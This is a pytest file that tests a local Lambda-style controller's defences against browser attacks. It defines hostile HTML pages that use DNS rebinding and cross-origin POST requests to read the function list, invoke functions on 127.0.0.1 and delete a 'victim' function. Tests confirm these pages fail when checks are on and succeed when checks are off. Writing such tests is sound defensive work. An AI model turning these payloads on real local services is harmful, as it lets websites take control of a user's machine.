"""What pages in a real browser can do with a controller on this machine: nothing, and without the checks
everything. The second half shows that the first one is the checks' doing."""

import urllib.parse

import pytest
from harness import layout, package
from harness.browser import Between, report_of
from harness.deadline import until
from harness.invocation import create, lambda_client

API = "/2015-03-31/functions"
INVOKE = f"{API}/guest/invocations"

SCRIPT = """<!doctype html><title>evil</title><script>
(async () => {
  const told = {};
  try { told.answer = await (async () => { %s })(); } catch (error) { told.answer = error.name; }
  await fetch("/attack/report", { method: "POST", body: JSON.stringify(told) });
})();
</script>"""
#: Pages of a hostile site. After rebinding, the controller has the site's own origin.
PAGES = {
    "/attack/rebinding": SCRIPT % f"return (await fetch('{API}')).text();",
    "/attack/post": SCRIPT
    % (
        "const there = `http://127.0.0.1:${location.port}`;"
        f"await fetch(there + '{INVOKE}', {{ method: 'POST', mode: 'no-cors', body: '{{}}' }});"
        "return 'sent';"
    ),
}

checks = pytest.mark.parametrize("checked", [True, False], ids=["checked", "unchecked"])


@pytest.fixture(scope="module")
def page(shared):
    """The function `page` with a public URL; its host name."""
    client = lambda_client(shared.url)
    code = package.folder(layout.FUNCTIONS / "page")
    create(client, "page", code, Runtime="python3.11", Handler="app.handler")
    made = client.create_function_url_config(FunctionName="page", AuthType="NONE")
    yield urllib.parse.urlsplit(made["FunctionUrl"]).hostname
    client.delete_function(FunctionName="page")


@pytest.fixture
def victim(shared, guest_package):
    """A function that a page may try to delete."""
    client = lambda_client(shared.url)
    create(client, "victim", guest_package)
    yield
    if shared.get(f"{API}/victim").status == 200:
        client.delete_function(FunctionName="victim")


@checks
def test_a_page_reads_nothing_after_its_name_was_rebound(shared, tmp_path, checked):
    with Between(shared.address, PAGES, disguised=not checked) as between:
        told = report_of(between, between.url("evil.example", "/attack/rebinding"), tmp_path)
    assert ("guest" in told["answer"]) is not checked, told
    assert ("--allowed-host" in told["answer"]) is checked, told


@checks
def test_a_page_of_another_site_runs_nothing(shared, tmp_path, checked):
    def ran():
        return shared.metrics().get('hearth_invocations_total{function="guest"}', 0)

    before = ran()
    with Between(shared.address, PAGES, disguised=not checked) as between:
        told = report_of(between, between.url("evil.example", "/attack/post"), tmp_path)
    assert told["answer"] == "sent", "a page does not see whether it was refused"
    if checked:
        assert ran() == before
    else:
        until("the function has run", lambda: ran() > before)


@checks
def test_a_functions_page_by_path_is_an_origin_of_its_own(shared, page, victim, tmp_path, checked):
    with Between(shared.address, PAGES, disguised=not checked) as between:
        parameters = {"api": API, "report": between.url("127.0.0.1", "/attack/report")}
        told = report_of(between, between.url("127.0.0.1", "/fn/page/", **parameters), tmp_path)
        origin = between.url("127.0.0.1", "")
    deleted = shared.get(f"{API}/victim").status == 404
    if checked:
        assert told["origin"] == "null"
        for attempted in ("api", "deleted", "worker", "cookie", "storage"):
            assert told[attempted].startswith("failed: "), (attempted, told)
        assert not deleted
    else:
        assert told["origin"] == origin
        assert "victim" in told["api"]
        assert told["worker"] == f"{origin}/fn/page/"
        assert (told["cookie"], told["storage"]) == ("a=1", "1")
        assert deleted


def test_a_functions_page_by_host_has_all_of_its_origin_and_nothing_else(
    shared, page, victim, tmp_path
):
    with Between(shared.address, PAGES, disguised=False) as between:
        parameters = {
            "api": between.url("localhost", API),
            "report": between.url("127.0.0.1", "/attack/report"),
        }
        told = report_of(between, between.url(page, "/", **parameters), tmp_path)
        origin = between.url(page, "")
    assert told["origin"] == origin
    assert told["worker"] == f"{origin}/"
    assert (told["cookie"], told["storage"]) == ("a=1", "1")
    assert told["api"].startswith("failed: ") and told["deleted"].startswith("failed: ")
    assert shared.get(f"{API}/victim").status == 200
